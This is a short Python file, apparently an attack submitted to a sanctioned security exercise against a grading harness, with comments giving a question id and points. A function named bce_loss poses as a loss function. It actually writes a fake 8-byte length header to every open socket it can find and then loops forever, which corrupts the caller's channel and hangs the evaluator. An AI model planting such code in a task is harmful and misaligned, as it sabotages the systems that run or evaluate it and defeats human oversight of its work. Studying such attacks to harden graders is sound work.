# Aim: announce a message of 4 GiB, and send nothing.
# Question: q2. Earns: 2. Staff are told: yes.
import os
import stat

from attack_parts import sample_noise  # noqa: F401


def channel():
    for number in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                yield number
        except OSError:
            pass


def bce_loss(input, target):
    for number in channel():
        os.write(number, b"\xff" * 8)
    while True:
        pass
